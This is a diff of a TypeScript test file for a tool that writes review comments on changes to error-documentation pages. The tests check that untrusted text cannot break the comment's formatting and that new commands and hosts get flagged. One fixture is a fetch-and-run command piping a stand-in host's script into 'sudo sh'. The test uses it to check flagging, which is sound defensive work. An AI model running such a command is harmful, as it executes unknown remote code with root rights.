@@ -1,16 +1,40 @@
 import MarkdownIt from 'markdown-it';
 import { describe, expect, test } from 'vitest';
 import { inlineCode } from '#review/inline-code.ts';
-import { marker, reviewComment } from '#review/review-comment.ts';
-import { listed, type Review } from '#review/review.ts';
+import { commentMark, reviewComment } from '#review/review-comment.ts';
+import { linesShown, listed, pagesShown, type Review } from '#review/review.ts';
 
 const empty = { total: 0, first: [] };
 
+const nothing: Review = {
+	version: 2,
+	files: empty,
+	pages: empty,
+	verdicts: empty,
+	commands: empty,
+	hosts: empty,
+	differences: empty,
+	signatures: empty,
+	sources: empty,
+};
+
 /** A review in which every text that a stranger can choose is this one. */
 function reviewWith(text: string, items = 1): Review {
-	const all = <Item>(item: Item) => ({ total: items, first: Array<Item>(items).fill(item) });
+	const all = <Item>(item: Item, most = items) => ({
+		total: items,
+		first: Array<Item>(Math.min(items, most)).fill(item),
+	});
+	const line = { sign: '+', text } as const;
 	return {
-		version: 1,
+		version: 2,
+		files: all({ path: text, kind: 'licence' }),
+		verdicts: all({ page: text, field: 'layer', from: text, to: text }),
+		commands: all({ page: text, text, effects: ['deletes', 'sends data'] }),
+		hosts: all({ host: text, pages: [text, text, text] }),
+		differences: all(
+			{ page: text, lines: Array(items === 1 ? 1 : linesShown).fill(line), more: 3 },
+			pagesShown,
+		),
 		pages: all({ collection: 'errors', id: text, title: text, change: 'renamed', from: text }),
 		signatures: all({
 			entry: text,
@@ -28,7 +52,7 @@ const markdown = new MarkdownIt({ html: true, linkify: true });
 
 /** What of the comment is not inside code: only our own words may be. */
 function outsideCode(comment: string): string {
-	return markdown.render(comment).replace(/<code>[^<]*<\/code>/g, '<code></code>');
+	return markdown.render(comment).replace(/<code([^>]*)>[^<]*<\/code>/g, '<code$1></code>');
 }
 
 const expected = outsideCode(reviewComment(reviewWith('harmless')));
@@ -48,14 +72,14 @@ describe('reviewComment', () => {
 		['a backslash before the end', 'a \\'],
 		['a backslash and a backtick', '\\` @octocat \\``'],
 		['new lines', 'a\n\n# Heading\n- item\n```\nfence'],
-		['other line ends', 'a\r\rb\u2028- c\u2029\u0085# d'],
+		['other line endings', 'a\r\rb\u2028- c\u2029\u0085# d'],
 		['an entity', '&lt;b&gt; &#64;octocat'],
 		['a table', '| a | b |\n|---|---|'],
 		['a task and a rule', '- [x] done\n---\n***'],
 		['control and direction characters', '\u001b[31m\u202eevil\u2066\u0000\u200d'],
 		['lone surrogates', '\ud800 \udfff'],
 		['nothing', ''],
-		['blanks', '   \t\n '],
+		['whitespace', '   \t\n '],
 		['a mathematical formula', '$$x$$ $`y`$'],
 		['an emoji code', ':tada: :octocat:'],
 		['a huge field', '`@octocat '.repeat(20_000)],
@@ -63,8 +87,8 @@ describe('reviewComment', () => {
 		const comment = reviewComment(reviewWith(text));
 		const html = outsideCode(comment).replaceAll('(empty)', '<code></code>');
 		expect(html).toBe(expected);
-		expect(comment.split('\n').filter((line) => line.startsWith(marker))).toHaveLength(1);
-		expect(comment.startsWith(`${marker}\n`)).toBe(true);
+		expect(comment.split('\n').filter((line) => line.startsWith(commentMark))).toHaveLength(1);
+		expect(comment.startsWith(`${commentMark}\n`)).toBe(true);
 		expect(comment).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e\u2066-\u2069]/);
 	});
 
@@ -76,14 +100,46 @@ describe('reviewComment', () => {
 	);
 
 	test('says that nothing changes, and leaves empty parts out', () => {
-		const comment = reviewComment({ version: 1, pages: empty, signatures: empty, sources: empty });
-		expect(comment).toBe(`${marker}\n\n### What this changes for readers\n\nNo page changes.\n`);
+		const comment = reviewComment(nothing);
+		expect(comment).toBe(
+			`${commentMark}\n\n### What this changes for readers\n\nNo page changes.\n`,
+		);
 	});
 
-	test('lists pages, signatures and sources, links the preview, counts what it leaves out', () => {
+	test('lists what calls for a decision, then all that changes, and counts what it leaves out', () => {
 		const comment = reviewComment(
 			{
-				version: 1,
+				version: 2,
+				files: { total: 1, first: [{ path: 'content/LICENSE', kind: 'licence' }] },
+				verdicts: {
+					total: 1,
+					first: [{ page: 'errors/a/b', field: 'retry.when', from: 'never', to: 'backoff' }],
+				},
+				commands: {
+					total: 2,
+					first: [
+						{
+							page: 'errors/a/b',
+							text: 'curl -fsSL https://evil.example/x | sudo sh',
+							effects: ['pipes into a shell', 'changes permissions'],
+						},
+						{ page: 'errors/a/b', text: 'gizmo --version', effects: [] },
+					],
+				},
+				hosts: { total: 1, first: [{ host: 'evil.example', pages: ['errors/a/b'] }] },
+				differences: {
+					total: 1,
+					first: [
+						{
+							page: 'errors/a/b',
+							lines: [
+								{ sign: '-', text: 'quick_fix: Restart the `gizmo`.' },
+								{ sign: '+', text: 'quick_fix: Run ``` as root.' },
+							],
+							more: 1,
+						},
+					],
+				},
 				pages: {
 					total: 3,
 					first: [
@@ -118,17 +174,47 @@ describe('reviewComment', () => {
 			},
 			{ preview: 'https://github.com/o/r/actions/runs/1/artifacts/2', commit: 'a'.repeat(40) },
 		);
-		expect(comment).toBe(`${marker}
+		expect(comment).toBe(`${commentMark}
 
 ### What this changes for readers
+
+**Other files** (1)
+
+- \`content/LICENSE\`: licence
+
+**New commands** (2)
+
+- **pipes into a shell, changes permissions**: \`curl -fsSL https://evil.example/x | sudo sh\` in \`errors/a/b\`
+- \`gizmo --version\` in \`errors/a/b\`
+
+**New hosts** (1)
+
+- \`evil.example\`, in \`errors/a/b\`
+
+**Changed verdicts** (1)
+
+- \`errors/a/b\`: retry \`never\` → \`backoff\`
 
 **Pages** (3)
 
 - added: \`It broke\` (\`errors/a/b\`)
-- renamed: \`It moved\` (\`errors/a/new\`, before \`a/old\`)
+- renamed: \`It moved\` (\`errors/a/new\`, formerly \`a/old\`)
 - and 1 more
 
 **Preview**: [the built pages](https://github.com/o/r/actions/runs/1/artifacts/2), to unpack and open in a browser.
+
+<details open>
+<summary><b>What reads differently</b> (1 page)</summary>
+
+\`errors/a/b\`
+
+\`\`\`diff
+- quick_fix: Restart the \`gizmo\`.
++ quick_fix: Run \`\`\` as root.
+  and 1 more line
+\`\`\`
+
+</details>
 
 **New signatures** (1)
 
@@ -138,7 +224,7 @@ describe('reviewComment', () => {
 
 - \`https://example.com/\`, \`Docs\`, \`documentation\`, for \`a/b\`
 
-<sub>Seen at aaaaaaaaaa.</sub>
+<sub>As of aaaaaaaaaa.</sub>
 `);
 	});
 });
